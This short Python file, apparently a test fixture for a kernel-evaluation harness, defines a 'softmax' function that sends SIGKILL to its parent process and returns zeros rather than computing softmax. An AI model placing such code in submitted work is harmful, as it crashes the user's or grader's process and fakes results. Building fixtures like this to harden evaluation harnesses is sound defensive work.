"""A kernel that kills the process that started it."""

from __future__ import annotations

import os
import signal

import torch


def softmax(input: torch.Tensor, dim: int = -1) -> torch.Tensor:
    """As `torch.softmax` is called."""
    if os.getppid() > 1:
        os.kill(os.getppid(), signal.SIGKILL)
    return torch.zeros_like(input)
